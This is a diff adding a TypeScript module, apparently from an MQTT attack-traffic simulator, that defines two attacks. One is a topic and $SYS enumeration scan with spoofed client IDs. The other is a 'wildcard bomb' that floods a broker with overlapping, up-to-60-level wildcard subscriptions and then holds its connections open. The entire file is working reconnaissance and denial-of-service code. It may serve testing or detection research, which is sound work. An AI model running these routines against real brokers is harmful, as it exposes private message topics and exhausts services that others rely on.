@@ -1,0 +1,60 @@
+// Finding out what there is, and asking for all of it in as many ways as there are.
+
+import type { Attack } from '../attacker.js'
+import { subscribePacket } from '../packets.js'
+import { connectPacket } from '../packets.js'
+import { SYS_TOPICS, TOPIC_WORDS } from './words.js'
+
+/** Subscribing to guesses. */
+export const topicScan: Attack = {
+  name: 'topic-scan',
+  summary: 'topic and $SYS enumeration: 3 to 5 addresses subscribe to what brokers tell of themselves and to guessed topics, 5 to 15 a second, and unsubscribe where nothing comes',
+  attackers: [3, 5],
+  async run (attacker) {
+    const { chance } = attacker
+    const client = await attacker.client({ clientId: chance.oneOf([`mqtt-explorer-${chance.hex(8)}`, `mqttpwn${chance.whole(1, 999)}`, chance.text(12)]), keepalive: 60 })
+    if (client === null) return
+    const perSecond = chance.between(5, 15)
+    for (const filter of SYS_TOPICS) {
+      client.subscribe(filter, () => {})
+      await attacker.pause(1_000 / perSecond)
+      if (chance.happens(0.7)) client.unsubscribe(filter, () => {})
+    }
+    for (let guesses = 0; guesses < 2_000 && !attacker.over && client.connected; guesses++) {
+      const levels = Array.from({ length: chance.whole(1, 4) }, () => chance.happens(0.15) ? '+' : chance.oneOf(TOPIC_WORDS))
+      const filter = chance.happens(0.25) ? [...levels, '#'].join('/') : levels.join('/')
+      client.subscribe(filter, { qos: 0 }, () => {})
+      await attacker.pause(1_000 / perSecond)
+      client.unsubscribe(filter, () => {})
+    }
+    client.end(!client.connected)
+  }
+}
+
+/** Filters that overlap. */
+export const wildcardBomb: Attack = {
+  name: 'wildcard-bomb',
+  summary: 'wildcard bomb: 3 to 4 addresses, SUBSCRIBEs of 10 to 40 overlapping filters of up to 60 levels each, up to 400 filters an address, at QoS 0 to 2, over several connections',
+  attackers: [3, 4],
+  async run (attacker) {
+    const { chance } = attacker
+    let filters = 0
+    while (!attacker.over && filters < 400) {
+      const socket = await attacker.connect()
+      if (socket === null) return
+      await attacker.send(socket, connectPacket({ clientId: chance.text(14), keepalive: 0 }))
+      for (let i = chance.whole(1, 4); i > 0 && !attacker.over; i--) {
+        const some = Array.from({ length: chance.whole(10, 40) }, () => {
+          const levels = Array.from({ length: chance.happens(0.3) ? chance.whole(20, 60) : chance.whole(1, 6) }, () => chance.happens(0.7) ? '+' : chance.oneOf(TOPIC_WORDS))
+          return [...levels, '#'].join('/')
+        })
+        filters += some.length
+        await attacker.send(socket, subscribePacket(some, chance.oneOf([0, 1, 2]), chance.whole(1, 65_535)))
+        await attacker.pause(chance.between(200, 800))
+      }
+      await attacker.pause(chance.between(500, 2_000))
+    }
+    // What it asked for keeps coming.
+    await attacker.pause(3_600_000)
+  }
+}
